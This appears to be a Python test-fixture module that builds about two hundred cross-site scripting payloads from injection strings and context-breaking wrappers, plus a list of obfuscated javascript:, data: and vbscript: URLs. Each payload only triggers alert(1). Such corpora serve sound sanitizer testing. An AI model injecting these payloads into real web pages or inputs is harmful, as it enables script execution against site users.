"""Two hundred ways of smuggling a script into text. Run, each would call `alert`."""

from __future__ import annotations

_BARE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<resolution-chat api=javascript:alert(1)></resolution-chat>",
    "{{constructor.constructor('alert(1)')()}}",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</mark></blockquote>{}",
    "</textarea>{}",
    "<!--{}-->--!>{}",
    "]]>{}<![CDATA[",
    "${{alert(1)}}`{}",
)
PAYLOADS: tuple[str, ...] = tuple(wrap.format(bare, bare) for bare in _BARE for wrap in _AROUND)
ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "blob:https://example.org/x",
    "//[",
)
